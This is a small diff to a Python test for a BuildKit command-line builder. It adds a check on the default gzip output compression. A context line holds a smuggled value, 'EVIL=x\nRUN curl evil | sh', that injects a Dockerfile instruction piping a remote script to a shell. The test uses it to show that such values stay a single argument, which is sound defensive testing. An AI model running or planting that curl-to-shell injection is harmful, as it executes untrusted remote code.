@@ -28,6 +28,8 @@ def test_argv_passes_every_value_as_one_argument_and_no_network_flag():
     assert "EVIL=x\nRUN curl evil | sh" in argv, "a value stays one argument: it can't become an instruction"
     assert argv[argv.index("--build-context") + 1] == "wheels=/w"
     assert argv[argv.index("--output") + 1] == "type=docker,compression=zstd,force-compression=true"
+    plain = buildkit.BuildRequest(dockerfile="D", context=".", platform="linux/amd64").argv()
+    assert plain[plain.index("--output") + 1] == "type=docker,compression=gzip"
     assert "--network" not in argv and not any(a.startswith("--network") for a in argv)
     assert argv[-1] == "." and "--provenance=false" in argv
 
